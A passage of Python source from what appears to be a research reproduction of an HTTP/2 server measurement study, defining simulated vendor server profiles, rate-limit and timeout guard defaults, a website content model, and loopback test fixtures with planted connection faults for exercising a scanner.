        tiny_window_behavior=TinyWindowBehavior.SILENT,
        on_zero_window_update_stream=Reaction.RST_STREAM,
        on_zero_window_update_connection=Reaction.GOAWAY,
        scheduler_mode="fcfs",
        on_self_dependency=Reaction.IGNORE,
        supports_push=False,
        hpack_index_responses=True,
    )


def h2o() -> ServerProfile:
    """H2O v1.6.2 (Table III column 3)."""
    return ServerProfile(
        name="h2o",
        server_header="h2o/1.6.2",
        supports_alpn=True,
        supports_npn=True,
        settings={MCS: 100, IWS: 16_777_216, MFS: 16_384},
        on_zero_window_update_stream=Reaction.RST_STREAM,
        on_zero_window_update_connection=Reaction.GOAWAY,
        scheduler_mode="strict",
        on_self_dependency=Reaction.GOAWAY,
        supports_push=True,
        hpack_index_responses=True,
    )


def nghttpd() -> ServerProfile:
    """nghttpd v1.12.0 (Table III column 4)."""
    return ServerProfile(
        name="nghttpd",
        server_header="nghttpd nghttp2/1.12.0",
        supports_alpn=True,
        supports_npn=True,
        settings={MCS: 100, IWS: 65_535, MFS: 16_384},
        # Table III: nghttpd answers zero window updates with GOAWAY
        # even when the frame targets a stream.
        on_zero_window_update_stream=Reaction.GOAWAY,
        on_zero_window_update_connection=Reaction.GOAWAY,
        scheduler_mode="strict",
        on_self_dependency=Reaction.GOAWAY,
        supports_push=True,
        hpack_index_responses=True,
    )


def tengine() -> ServerProfile:
    """Tengine v2.1.2 (Table III column 5) — an Nginx fork."""
    profile = nginx()
    return profile.clone(name="tengine", server_header="Tengine/2.1.2")


def apache() -> ServerProfile:
    """Apache httpd v2.4.23 with mod_http2 (Table III column 6)."""
    return ServerProfile(
        name="apache",
        server_header="Apache/2.4.23",
        supports_alpn=True,
        # Table III: Apache does not support NPN over TLS.
        supports_npn=False,
        settings={MCS: 100, IWS: 65_535, MFS: 16_384, MHLS: 16_384},
        on_zero_window_update_stream=Reaction.GOAWAY,
        on_zero_window_update_connection=Reaction.GOAWAY,
        scheduler_mode="strict",
        on_self_dependency=Reaction.GOAWAY,
        supports_push=True,
        hpack_index_responses=True,
    )


# -- population-only server families (Table IV) --------------------------


def gse() -> ServerProfile:
    """GSE — Google's proprietary web server (population only).

    §V-G: GSE achieves the best HPACK ratios (all below 0.3), and GSE
    sites announce large initial windows and frame sizes.
    """
    return ServerProfile(
        name="gse",
        server_header="GSE",
        supports_alpn=True,
        supports_npn=True,
        settings={MCS: 100, IWS: 1_048_576, MFS: 16_777_215},
        scheduler_mode="strict",
        supports_push=False,
        hpack_index_responses=True,
    )


def cloudflare_nginx() -> ServerProfile:
    """cloudflare-nginx — an Nginx derivative at the edge."""
    profile = nginx()
    return profile.clone(
        name="cloudflare-nginx",
        server_header="cloudflare-nginx",
        settings={MCS: 128, IWS: 2_147_483_647, MFS: 16_384},
        announce_zero_then_window_update=False,
    )


def ideaweb() -> ServerProfile:
    """IdeaWebServer/v0.80 (home.pl's server; poor HPACK per §V-G)."""
    return ServerProfile(
        name="ideaweb",
        server_header="IdeaWebServer/v0.80",
        supports_alpn=True,
        supports_npn=True,
        settings={MCS: 100, IWS: 65_536, MFS: 16_384},
        scheduler_mode="fcfs",
        supports_push=False,
        hpack_index_responses=False,
    )


def tengine_aserver() -> ServerProfile:
    """Tengine/Aserver — tmall.com's rebranded Tengine (2nd experiment)."""
    profile = tengine()
    return profile.clone(name="tengine-aserver", server_header="Tengine/Aserver")


#: Per-vendor hardened abuse-guard defaults (ISSUE 7).  None of the
#: 2016 builds in Table III shipped these, so they are NOT part of the
#: vendor factories above — the battery (and any caller that wants a
#: hardened engine) applies them explicitly via :func:`hardened`.  The
#: knobs loosely mirror the defences the vendors later grew (nginx's
#: client_header_timeout lineage, Apache's mod_reqtimeout, nghttp2's
#: rapid-reset mitigation), scaled to testbed seconds and deliberately
#: differentiated so the survival matrix separates strict from lenient
#: configurations.
DEFAULT_GUARDS: dict[str, AbuseGuards] = {
    "nginx": AbuseGuards(
        preface_timeout=3.0,
        header_timeout=3.0,
        idle_timeout=8.0,
        stall_timeout=6.0,
        ping_rate_limit=60,
        settings_rate_limit=20,
        rst_rate_limit=100,
    ),
    "litespeed": AbuseGuards(
        preface_timeout=2.0,
        header_timeout=2.0,
        idle_timeout=6.0,
        stall_timeout=4.0,
        ping_rate_limit=40,
        settings_rate_limit=10,
        rst_rate_limit=50,
    ),
    "h2o": AbuseGuards(
        preface_timeout=4.0,
        header_timeout=4.0,
        idle_timeout=10.0,
        stall_timeout=8.0,
        ping_rate_limit=80,
        settings_rate_limit=30,
        rst_rate_limit=150,
    ),
    "nghttpd": AbuseGuards(
        preface_timeout=5.0,
        header_timeout=5.0,
        idle_timeout=12.0,
        stall_timeout=10.0,
        ping_rate_limit=100,
        settings_rate_limit=40,
        rst_rate_limit=200,
    ),
    "tengine": AbuseGuards(
        preface_timeout=3.0,
        header_timeout=3.0,
        idle_timeout=8.0,
        stall_timeout=6.0,
        ping_rate_limit=50,
        settings_rate_limit=15,
        rst_rate_limit=80,
    ),
    "apache": AbuseGuards(
        preface_timeout=4.0,
        header_timeout=4.0,
        idle_timeout=9.0,
        stall_timeout=7.0,
        ping_rate_limit=70,
        settings_rate_limit=25,
        rst_rate_limit=120,
    ),
}

#: Fallback guard set for profiles without a vendor-specific entry.
GENERIC_GUARDS = AbuseGuards(
    preface_timeout=4.0,
    header_timeout=4.0,
    idle_timeout=10.0,
    stall_timeout=8.0,
    ping_rate_limit=80,
    settings_rate_limit=30,
    rst_rate_limit=150,
)


def vendor_guards(name: str) -> AbuseGuards:
    """The hardened default guard set for a vendor (generic fallback)."""
    return DEFAULT_GUARDS.get(name, GENERIC_GUARDS)


def hardened(profile: ServerProfile, scale: float = 1.0) -> ServerProfile:
    """A copy of ``profile`` with its vendor's default guards enabled."""
    guards = vendor_guards(profile.name)
    if scale != 1.0:
        guards = guards.scaled(scale)
    return profile.clone(guards=guards)


#: The six testbed servers, keyed by profile name (Table III order).
VENDOR_FACTORIES = {
    "nginx": nginx,
    "litespeed": litespeed,
    "h2o": h2o,
    "nghttpd": nghttpd,
    "tengine": tengine,
    "apache": apache,
}

#: Server families appearing in the population experiments (Table IV).
POPULATION_FACTORIES = {
    **VENDOR_FACTORIES,
    "gse": gse,
    "cloudflare-nginx": cloudflare_nginx,
    "ideaweb": ideaweb,
    "tengine-aserver": tengine_aserver,
}
