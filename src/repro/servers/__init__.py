"""Simulated HTTP/2 servers.

One real protocol engine (:mod:`repro.servers.engine`, built on
:mod:`repro.h2`) is specialised by :class:`ServerProfile` instances
that encode the observable behaviour differences the paper documents in
Table III and Section V — flow-control quirks, priority scheduling or
the lack of it, push support, HPACK indexing policy, announced SETTINGS
and TLS negotiation capabilities.

:mod:`repro.servers.vendors` transcribes the six implementations the
paper examines (Nginx 1.9.15, LiteSpeed 5.0.11, H2O 1.6.2, nghttpd
1.12.0, Tengine 2.1.2, Apache 2.4.23) plus the population-only server
families (GSE, cloudflare-nginx, IdeaWebServer, Tengine/Aserver).
"""

from repro.servers.profiles import ServerProfile, TinyWindowBehavior
from repro.servers.website import Resource, Website
from repro.servers.engine import H2Server
from repro.servers.site import Site, deploy_site
from repro.servers.vendors import (
    apache,
    gse,
    h2o,
    litespeed,
    nghttpd,
    nginx,
    tengine,
    VENDOR_FACTORIES,
)

__all__ = [
    "H2Server",
    "Resource",
    "ServerProfile",
    "Site",
    "TinyWindowBehavior",
    "VENDOR_FACTORIES",
    "Website",
    "apache",
    "deploy_site",
    "gse",
    "h2o",
    "litespeed",
    "nghttpd",
    "nginx",
    "tengine",
]
