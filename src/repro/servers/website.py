"""Website content model.

A :class:`Website` is what one simulated origin serves: a set of
resources with sizes, content types, sub-resource links (what an HTML
page references, driving the page-load model of Fig. 3) and an optional
push manifest (the paper notes real servers only support *statically*
configured push lists — Section VI).
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field


@dataclass
class Resource:
    """One addressable object on a site."""

    path: str
    size: int
    content_type: str = "text/html"
    #: Paths of sub-resources referenced by this document (HTML only).
    links: list[str] = field(default_factory=list)
    #: Paths the server pushes when this resource is requested
    #: (used only when the server profile supports push).
    push: list[str] = field(default_factory=list)
    #: Extra response headers, e.g. cookies (affects HPACK ratios).
    extra_headers: list[tuple[str, str]] = field(default_factory=list)

    def body(self) -> bytes:
        """Deterministic pseudo-content of the declared size."""
        if self.size <= 0:
            return b""
        pattern = f"<{self.path}>".encode()
        repeats = self.size // len(pattern) + 1
        return (pattern * repeats)[: self.size]


class Website:
    """A site's resource tree."""

    def __init__(self, resources: list[Resource] | None = None):
        self._resources: dict[str, Resource] = {}
        for resource in resources or []:
            self.add(resource)

    def add(self, resource: Resource) -> None:
        self._resources[resource.path] = resource

    def get(self, path: str) -> Resource | None:
        return self._resources.get(path)

    def paths(self) -> list[str]:
        return sorted(self._resources)

    def __len__(self) -> int:
        return len(self._resources)

    def __contains__(self, path: str) -> bool:
        return path in self._resources


def default_website() -> Website:
    """A small but realistic site: front page, assets, a large object."""
    site = Website()
    assets = [
        Resource("/style.css", 18_000, "text/css"),
        Resource("/app.js", 65_000, "application/javascript"),
        Resource("/logo.png", 12_000, "image/png"),
        Resource("/hero.jpg", 140_000, "image/jpeg"),
    ]
    for asset in assets:
        site.add(asset)
    site.add(
        Resource(
            "/",
            30_000,
            "text/html",
            links=[a.path for a in assets],
            push=["/style.css", "/app.js"],
        )
    )
    site.add(Resource("/about.html", 22_000, "text/html", links=["/style.css"]))
    site.add(Resource("/big.bin", 1_000_000, "application/octet-stream"))
    return site


def testbed_website(object_size: int = 400_000, objects: int = 8) -> Website:
    """The paper's testbed content: several *large* objects.

    §III-A1: the multiplexing probe only works against servers hosting
    large objects (small responses complete before interleaving can be
    observed), so the authors place large files on their testbed server.
    """
    site = Website()
    paths = [f"/large/{i}.bin" for i in range(objects)]
    for path in paths:
        site.add(Resource(path, object_size, "application/octet-stream"))
    # Medium objects used by the priority probe's window-depletion step.
    for i in range(16):
        site.add(Resource(f"/medium/{i}.bin", 60_000, "application/octet-stream"))
    site.add(Resource("/style.css", 15_000, "text/css"))
    site.add(Resource("/app.js", 40_000, "application/javascript"))
    site.add(
        Resource(
            "/",
            8_000,
            "text/html",
            links=["/style.css", "/app.js"] + paths,
            push=["/style.css", "/app.js"],
        )
    )
    site.add(Resource("/push.html", 10_000, "text/html", push=["/large/0.bin"]))
    return site


def random_website(
    rng: random.Random,
    push_capable: bool = False,
    cookie_prob: float = 0.2,
) -> Website:
    """A randomly sized site for population experiments.

    ``cookie_prob`` controls how often the front page carries a (static)
    set-cookie header — never-indexed on the wire per RFC 7541 §7.1.3
    advice, so it keeps repeated response header blocks large and pushes
    the site's HPACK ratio up (§V-G's mid-range CDF mass).
    """
    site = Website()
    n_assets = rng.randint(3, 20)
    assets = []
    for i in range(n_assets):
        kind = rng.choice(
            [
                ("css", "text/css", (2_000, 60_000)),
                ("js", "application/javascript", (5_000, 200_000)),
                ("png", "image/png", (1_000, 150_000)),
                ("jpg", "image/jpeg", (10_000, 400_000)),
            ]
        )
        ext, ctype, (lo, hi) = kind
        assets.append(Resource(f"/asset{i}.{ext}", rng.randint(lo, hi), ctype))
    for asset in assets:
        site.add(asset)
    pushed = [a.path for a in assets[:3]] if push_capable else []
    extra = []
    if rng.random() < cookie_prob:
        extra.append(("set-cookie", f"session={rng.getrandbits(64):x}; Path=/"))
    site.add(
        Resource(
            "/",
            rng.randint(5_000, 120_000),
            "text/html",
            links=[a.path for a in assets],
            push=pushed,
            extra_headers=extra,
        )
    )
    site.add(Resource("/big.bin", rng.randint(200_000, 2_000_000), "application/octet-stream"))
    return site
