"""Site = domain + server profile + content + path characteristics.

This is the unit the population generator emits and the scanner
consumes: everything needed to deploy one origin onto the simulated
network.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.net.faults import stable_seed
from repro.net.transport import LinkProfile, Network
from repro.servers.engine import H2Server
from repro.servers.profiles import ServerProfile
from repro.servers.website import Website, default_website


@dataclass
class Site:
    """One deployable origin."""

    domain: str
    profile: ServerProfile
    website: Website = field(default_factory=default_website)
    link: LinkProfile = field(default_factory=LinkProfile)
    #: Ground-truth annotations the population generator sets so that
    #: tests can compare planted truth with scanned observations.
    truth: dict = field(default_factory=dict)


def deploy_site(
    network: Network,
    site: Site,
    port: int = 443,
    clear_port: int | None = 80,
    record_frames: bool = False,
) -> H2Server:
    """Create the site's host and attach an engine; returns the server.

    The TLS listener goes on ``port``; a cleartext HTTP/1.1 listener
    (serving Upgrade: h2c when the profile supports it) goes on
    ``clear_port`` unless that is None.  ``record_frames`` turns on the
    engine's per-connection inbound-frame timelines (detector corpora).
    """
    host = network.add_host(site.domain, site.link)
    server = H2Server(
        network.sim,
        site.profile,
        site.website,
        # stable_seed, not hash(): the engine's universe must be
        # reproducible across processes (campaign crash/resume).
        seed=stable_seed(network.seed, site.domain) & 0xFFFFFFFF,
        record_frames=record_frames,
    )
    server.install(host, port, tls=True)
    if clear_port is not None:
        server.install(host, clear_port, tls=False)
    return server
