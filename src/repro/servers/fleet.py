"""Loopback fleet: a hermetic proving ground for live campaigns.

The live campaign layer (:mod:`repro.scope.live`) is built for the
open internet — a population where some domains never resolve, some
hosts refuse every connection, and some accept and then go silent.
Testing that layer against the real internet would be slow, impolite
and nondeterministic, so this module builds the internet's greatest
hits out of loopback sockets:

* **healthy** sites are simulated vendor engines served over real TCP
  by :class:`~repro.servers.loopback.LoopbackBridge` — byte-for-byte
  the same engines the simulated campaigns probe, seeded identically,
  so live verdicts can be compared against simulated ones
  verdict-for-verdict;
* **refuse** sites resolve to a loopback port that is bound but not
  listening: every connect gets an immediate RST, the transient
  failure that exercises retry/backoff budgets;
* **stall** sites resolve to a listening socket that is never accepted
  or read from beyond the kernel's work: the TCP handshake completes
  (the kernel does that from the backlog), then nothing ever answers —
  the probe must be cut off by its own :class:`Deadline`, not by TCP;
* **blackhole** sites resolve to a listener whose accept queue has
  been saturated, so even the TCP handshake hangs until the backend's
  ``connect_timeout`` fires (loopback cannot drop SYNs outright; a
  full backlog is the closest portable approximation);
* **unresolvable** sites simply have no resolver entry at all: the DNS
  stage must quarantine them without a single connect attempt.

Fault assignment is deterministic in the plan's seed, so a fleet can be
rebuilt identically in a subprocess for kill/resume tests.  The fleet's
:meth:`resolver` plugs straight into :class:`~repro.scope.live.
run_live_campaign`'s ``resolver=`` (and therefore into the DNS stage
and every :class:`~repro.net.socket_backend.SocketBackend` it builds).
"""

from __future__ import annotations

import random
import socket
from dataclasses import dataclass

from repro.net.faults import stable_seed
from repro.net.transport import LinkProfile
from repro.population.generator import PopulationConfig, make_population
from repro.servers.loopback import LoopbackBridge
from repro.servers.site import Site

#: Fault kinds a fleet site can be assigned.
HEALTHY = "healthy"
REFUSE = "refuse"
STALL = "stall"
BLACKHOLE = "blackhole"
UNRESOLVABLE = "unresolvable"

#: Probe-level ports every fleet target is mapped on (TLS-sim + clear).
FLEET_PORTS = (443, 80)


@dataclass(frozen=True)
class FleetPlan:
    """Size, seed and fault composition of one loopback fleet."""

    sites: int = 20
    seed: int = 0
    refuse: int = 0
    stall: int = 0
    blackhole: int = 0
    unresolvable: int = 0
    link_rtt: float = 0.02

    @property
    def faulty(self) -> int:
        return self.refuse + self.stall + self.blackhole + self.unresolvable

    def __post_init__(self) -> None:
        if self.faulty > self.sites:
            raise ValueError(
                f"plan assigns {self.faulty} faults to {self.sites} sites"
            )


def _fault_assignment(plan: FleetPlan, domains: list[str]) -> dict[str, str]:
    """Deterministically assign each domain a fault kind (or healthy)."""
    order = list(domains)
    random.Random(stable_seed(plan.seed, "fleet-faults")).shuffle(order)
    assignment = {domain: HEALTHY for domain in domains}
    cursor = 0
    for kind, count in (
        (REFUSE, plan.refuse),
        (STALL, plan.stall),
        (BLACKHOLE, plan.blackhole),
        (UNRESOLVABLE, plan.unresolvable),
    ):
        for domain in order[cursor : cursor + count]:
            assignment[domain] = kind
        cursor += count
    return assignment


class LoopbackFleet:
    """A population of loopback listeners with planted faults.

    Usage::

        with LoopbackFleet(FleetPlan(sites=100, refuse=5, stall=5,
                                     unresolvable=5)) as fleet:
            run_live_campaign(fleet.domains, store, "live",
                              resolver=fleet.resolver(), ...)

    ``fleet.faults`` records which domain got which fault, so tests can
    assert the campaign classified each one correctly, and
    ``fleet.sites`` holds the generated :class:`Site` objects so the
    same population can be scanned in simulation for the differential.
    """

    def __init__(self, plan: FleetPlan):
        self.plan = plan
        config = PopulationConfig(
            n_sites=plan.sites, seed=plan.seed, include_unresponsive=False
        )
        self.sites: list[Site] = make_population(config)[: plan.sites]
        for site in self.sites:
            # Pin every site's link to the bridge's emulated one (clean,
            # link_rtt round trip, effectively unlimited bandwidth) so a
            # simulated scan of the same Site sees the timing the bridge
            # produces — the precondition for the live/simulated verdict
            # differential (see repro.scope.live.verdict_view).
            site.link = LinkProfile(
                rtt=plan.link_rtt, bandwidth=1e9, loss_rate=0.0
            )
        self.domains: list[str] = [site.domain for site in self.sites]
        self.faults: dict[str, str] = _fault_assignment(plan, self.domains)
        self.bridge = LoopbackBridge(seed=plan.seed, link_rtt=plan.link_rtt)
        self._mapping: dict[tuple[str, int], tuple[str, int]] = {}
        self._sockets: list[socket.socket] = []
        self._closed = False
        try:
            self._build()
        except BaseException:
            self.close()
            raise

    # -- construction ------------------------------------------------------

    def _build(self) -> None:
        for site in self.sites:
            kind = self.faults[site.domain]
            if kind == HEALTHY:
                self._mapping.update(self.bridge.serve(site))
            elif kind == REFUSE:
                self._map_to(site.domain, self._refusing_address)
            elif kind == STALL:
                self._map_to(site.domain, self._stalling_address)
            elif kind == BLACKHOLE:
                self._map_to(site.domain, self._blackholed_address)
            # UNRESOLVABLE: no mapping entries at all.

    def _map_to(self, domain: str, make_address) -> None:
        for port in FLEET_PORTS:
            self._mapping[(domain, port)] = make_address()

    def _refusing_address(self) -> tuple[str, int]:
        """A loopback port that RSTs every connect: bound, not listening.

        Keeping the socket open reserves the port for the fleet's
        lifetime, so the refusal is stable (no ephemeral-port reuse
        race) while connects fail instantly with ECONNREFUSED.
        """
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.bind(("127.0.0.1", 0))
        self._sockets.append(sock)
        return sock.getsockname()[:2]

    def _stalling_address(self) -> tuple[str, int]:
        """A listener nobody ever accepts from or answers on.

        The kernel completes the TCP handshake from the backlog, so the
        probe's connect succeeds and its request bytes vanish into the
        receive buffer — the scan only escapes via its own deadline.
        """
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.bind(("127.0.0.1", 0))
        sock.listen(8)
        self._sockets.append(sock)
        return sock.getsockname()[:2]

    def _blackholed_address(self) -> tuple[str, int]:
        """A listener whose accept queue is pre-saturated.

        With the backlog full, further SYNs get no SYN-ACK (the kernel
        drops or defers them), so the probe's connect itself hangs
        until the backend's ``connect_timeout``.  The saturating client
        sockets are kept open for the fleet's lifetime.
        """
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.bind(("127.0.0.1", 0))
        sock.listen(0)
        self._sockets.append(sock)
        address = sock.getsockname()[:2]
        for _ in range(2):  # backlog 0 still admits ~1; oversaturate
            filler = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            filler.setblocking(False)
            filler.connect_ex(address)
            self._sockets.append(filler)
        return address

    # -- campaign-facing surface -------------------------------------------

    def resolver(self) -> dict[tuple[str, int], tuple[str, int]]:
        """The ``(domain, port) -> (host, port)`` map for the campaign."""
        return dict(self._mapping)

    def healthy_sites(self) -> list[Site]:
        """The sites a live campaign should produce real verdicts for."""
        return [
            site for site in self.sites if self.faults[site.domain] == HEALTHY
        ]

    def domains_with(self, kind: str) -> list[str]:
        return [
            domain for domain in self.domains if self.faults[domain] == kind
        ]

    # -- lifecycle ---------------------------------------------------------

    def close(self) -> None:
        if self._closed:
            return
        self._closed = True
        self.bridge.close()
        for sock in self._sockets:
            try:
                sock.close()
            except OSError:
                pass

    def __enter__(self) -> "LoopbackFleet":
        return self

    def __exit__(self, *exc) -> None:
        self.close()
