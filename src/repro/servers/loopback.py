"""Loopback bridge: simulated vendor engines behind real TCP sockets.

The testbed engines (:class:`~repro.servers.engine.H2Server`) are pure
sans-IO state machines driven by a discrete-event
:class:`~repro.net.clock.Simulation`.  This module puts them on the
other end of *real* asyncio sockets so the socket transport backend
(:mod:`repro.net.socket_backend`) can be exercised end-to-end: the
differential test probes ``nginx.testbed`` & co. over 127.0.0.1 and
asserts the feature matrix matches the simulated one cell-for-cell.

Two design points matter for fidelity:

* **Event pacing.**  Draining a site's simulation to quiescence after
  every received TCP chunk would make responses serial — the engine's
  virtual processing delays (~12 ms) would elapse "instantly", so each
  response would complete before the next request arrived and
  multiplexing/priority verdicts would flip.  Instead a
  :class:`_SiteRuntime` maps virtual delays onto asyncio timers 1:1
  (virtual second = wall second): whenever the simulation has a due
  event, one ``call_later`` fires at its wall-clock due time, runs the
  simulation up to exactly that instant, and re-arms for the next
  event.  Engine delays are small (0.5–20 ms), so the wall cost is
  negligible while concurrency behaviour is preserved.

* **Link latency.**  On bare loopback the client's WINDOW_UPDATEs
  return in microseconds, so the first response can stream to
  completion before the next request's processing delay has even
  elapsed — serialising responses that the simulator (whose default
  link has a 50 ms RTT) delivers interleaved.  The bridge therefore
  charges a one-way delay on every byte in both directions, routed
  through the site's own simulation so ordering is preserved exactly
  (the event queue breaks timestamp ties by insertion order).

* **Seeding.**  Each site's engine is seeded exactly like
  :func:`~repro.servers.site.deploy_site`
  (``stable_seed(seed, domain) & 0xFFFFFFFF``), and probes run
  sequentially, so per-connection RNG draws (HPACK noise, jitter) come
  from the same generators in both modes.

The bridge owns a daemon thread with its own asyncio loop; every
simulation touch happens on that loop, so no locking is needed.
:meth:`LoopbackBridge.resolver` returns the ``{(domain, port):
(host, port)}`` mapping :class:`~repro.net.socket_backend.SocketBackend`
uses to route simulated domains onto the loopback listeners.
"""

from __future__ import annotations

import asyncio
import threading
from collections.abc import Callable

from repro.net.clock import Simulation
from repro.net.faults import stable_seed
from repro.servers.engine import H2Server
from repro.servers.site import Site

#: Virtual-to-wall time ratio.  1.0 preserves the engines' concurrency
#: behaviour exactly; the delays involved are milliseconds, so there is
#: no need to compress them.
TIME_SCALE = 1.0


class _BridgeEndpoint:
    """Server end of a real TCP connection, duck-typing ``Endpoint``.

    The engine's ``_ServerConnection`` attaches its ``on_data`` /
    ``on_close`` handlers here and calls :meth:`send` to answer; all of
    it runs on the bridge's event loop.  Both directions are charged a
    one-way link delay through the site's simulation (see the module
    docstring), so the engine observes request bytes ``delay`` virtual
    seconds after they hit the socket and response bytes hit the
    socket ``delay`` seconds after the engine emits them.
    """

    def __init__(self, runtime: "_SiteRuntime", label: str):
        self.runtime = runtime
        self.label = label
        self.on_data: Callable[[bytes], None] | None = None
        self.on_close: Callable[[], None] | None = None
        self.closed = False
        self.bytes_sent = 0
        self.bytes_received = 0
        self._recv_buffer = bytearray()
        self._transport: asyncio.Transport | None = None

    # -- engine-facing side ------------------------------------------------

    def send(self, data: bytes) -> None:
        if self.closed:
            raise ConnectionError(f"{self.label}: send on closed connection")
        if not data:
            return
        self.bytes_sent += len(data)
        self.runtime.after_delay(self._write_out, data)

    def close(self) -> None:
        if self.closed:
            return
        self.closed = True
        self.runtime.after_delay(self._close_out)

    def drain(self) -> bytes:
        data = bytes(self._recv_buffer)
        self._recv_buffer.clear()
        return data

    # -- socket-facing side ------------------------------------------------

    def _write_out(self, data: bytes) -> None:
        if self._transport is not None and not self._transport.is_closing():
            self._transport.write(data)

    def _close_out(self) -> None:
        if self._transport is not None:
            self._transport.close()

    def _feed(self, data: bytes) -> None:
        self.bytes_received += len(data)
        self.runtime.after_delay(self._deliver, data)

    def _deliver(self, data: bytes) -> None:
        if self.on_data is not None:
            self.on_data(data)
        else:
            self._recv_buffer.extend(data)

    def _peer_closed(self) -> None:
        self.runtime.after_delay(self._deliver_close)

    def _deliver_close(self) -> None:
        if self.closed:
            return
        self.closed = True
        if self.on_close is not None:
            self.on_close()


class _ServerProtocol(asyncio.Protocol):
    """Feeds one :class:`_BridgeEndpoint` and kicks the site runtime."""

    def __init__(self, runtime: "_SiteRuntime", tls: bool):
        self.runtime = runtime
        self.tls = tls
        self.endpoint: _BridgeEndpoint | None = None

    def connection_made(self, transport) -> None:
        self.endpoint = self.runtime.accept(transport, tls=self.tls)

    def data_received(self, data: bytes) -> None:
        assert self.endpoint is not None
        self.endpoint._feed(data)
        self.runtime.kick()

    def connection_lost(self, exc) -> None:
        if self.endpoint is not None:
            self.endpoint._peer_closed()
        self.runtime.kick()


class _SiteRuntime:
    """One site's engine, simulation, and virtual-to-wall event pacing."""

    def __init__(
        self,
        loop: asyncio.AbstractEventLoop,
        site: Site,
        seed: int,
        link_rtt: float,
    ):
        self.loop = loop
        self.site = site
        self.delay = link_rtt / 2.0  # one-way, charged per direction
        self.sim = Simulation()
        #: Wall instant corresponding to virtual t=0.  The virtual clock
        #: is re-anchored to this on every external stimulus (see
        #: :meth:`_sync`): without it the simulation's ``now`` lags the
        #: wall whenever the event queue is sparse, and long timers —
        #: the engines' abuse-guard deadlines — would recede by that lag
        #: every time a new byte arrived.
        self._epoch = loop.time()
        self.server = H2Server(
            self.sim,
            site.profile,
            site.website,
            # Mirror deploy_site so both modes draw from the same RNGs.
            seed=stable_seed(seed, site.domain) & 0xFFFFFFFF,
        )
        self._timer: asyncio.TimerHandle | None = None
        self._timer_due: float | None = None
        self._running = False
        self.endpoints: list[_BridgeEndpoint] = []

    def accept(self, transport: asyncio.Transport, tls: bool) -> _BridgeEndpoint:
        """Wrap a fresh TCP connection in an engine connection."""
        # Anchor the virtual clock first: the connection's guard timers
        # are armed relative to ``sim.now``, which may trail the wall if
        # the site has been idle.
        self._sync()
        kind = "tls" if tls else "clear"
        endpoint = _BridgeEndpoint(self, f"{self.site.domain}:{kind}")
        endpoint._transport = transport
        self.endpoints.append(endpoint)
        # Same construction as H2Server._accept_tls/_accept_clear.
        from repro.servers.engine import _ServerConnection

        conn = _ServerConnection(
            self.server,
            endpoint,
            index=len(self.server.connections),
            tls=tls,
        )
        self.server.connections.append(conn)
        self.kick()
        return endpoint

    # -- pacing -----------------------------------------------------------

    def _sync(self) -> None:
        """Advance the virtual clock to the wall-equivalent instant.

        Virtual events due before that instant run now (their wall
        timers would have fired by now anyway, modulo scheduler slop);
        events further out keep their armed timers.  Never called while
        the simulation is mid-run: there ``sim.now`` is the executing
        event's own timestamp and must not jump.
        """
        if self._running:
            return
        wall_now = (self.loop.time() - self._epoch) / TIME_SCALE
        if wall_now <= self.sim.now:
            return
        self._running = True
        try:
            self.sim.run(until=wall_now)
        finally:
            self._running = False

    def after_delay(self, fn: Callable, *args) -> None:
        """Run ``fn(*args)`` one link-delay from now (simulation-ordered)."""
        self._sync()
        self.sim.call_later(self.delay, fn, *args)
        self.kick()

    def kick(self) -> None:
        """(Re-)arm the wall timer for the simulation's earliest event."""
        if self._running:
            return  # _fire re-kicks once the current batch finishes
        due = self.sim.next_event_time()
        if due is None:
            return
        if self._timer is not None:
            if self._timer_due is not None and self._timer_due <= due:
                return  # already armed for this (or an earlier) event
            self._timer.cancel()
        delay = max(0.0, (due - self.sim.now) * TIME_SCALE)
        self._timer_due = due
        self._timer = self.loop.call_later(delay, self._fire, due)

    def _fire(self, due: float) -> None:
        self._timer = None
        self._timer_due = None
        self._running = True
        try:
            self.sim.run(until=max(due, self.sim.now))
        finally:
            self._running = False
        self.kick()

    def close(self) -> None:
        if self._timer is not None:
            self._timer.cancel()
            self._timer = None
        for endpoint in self.endpoints:
            endpoint._close_out()


class LoopbackBridge:
    """Serves simulated vendor engines over real loopback TCP sockets.

    Usage::

        bridge = LoopbackBridge(seed=0)
        bridge.serve(site)                      # one or more sites
        backend = SocketBackend(resolver=bridge.resolver(), ...)
        ...probe f"{site.domain}" over real sockets...
        bridge.close()

    Also usable as a context manager.  ``serve`` binds two ephemeral
    listeners per site: one standing in for port 443 (the simulated
    TLS handshake runs in-band over the byte stream, as in the
    simulator) and one for cleartext port 80.
    """

    def __init__(self, seed: int = 0, link_rtt: float = 0.02):
        self.seed = seed
        #: Emulated round-trip time (seconds) between probe and engine.
        #: Must stay well above the engines' processing jitter so that
        #: concurrent responses overlap the way they do in the simulator
        #: (see module docstring); 20 ms is a good speed/fidelity spot.
        self.link_rtt = link_rtt
        self._loop = asyncio.new_event_loop()
        self._runtimes: dict[str, _SiteRuntime] = {}
        self._servers: list[asyncio.AbstractServer] = []
        self._addresses: dict[tuple[str, int], tuple[str, int]] = {}
        self._closed = False
        self._thread = threading.Thread(
            target=self._run_loop, name="loopback-bridge", daemon=True
        )
        self._thread.start()

    def _run_loop(self) -> None:
        asyncio.set_event_loop(self._loop)
        self._loop.run_forever()

    # -- serving ----------------------------------------------------------

    def serve(self, site: Site) -> dict[tuple[str, int], tuple[str, int]]:
        """Deploy ``site`` on two loopback listeners; returns its address
        mapping ``{(domain, 443): (host, port), (domain, 80): ...}``."""
        if self._closed:
            raise RuntimeError("bridge is closed")
        future = asyncio.run_coroutine_threadsafe(self._serve(site), self._loop)
        return future.result(timeout=30)

    async def _serve(self, site: Site) -> dict[tuple[str, int], tuple[str, int]]:
        runtime = _SiteRuntime(self._loop, site, self.seed, self.link_rtt)
        self._runtimes[site.domain] = runtime
        mapping: dict[tuple[str, int], tuple[str, int]] = {}
        for probe_port, tls in ((443, True), (80, False)):
            server = await self._loop.create_server(
                lambda tls=tls: _ServerProtocol(runtime, tls), "127.0.0.1", 0
            )
            self._servers.append(server)
            host, port = server.sockets[0].getsockname()[:2]
            mapping[(site.domain, probe_port)] = (host, port)
        self._addresses.update(mapping)
        return mapping

    def resolver(self) -> dict[tuple[str, int], tuple[str, int]]:
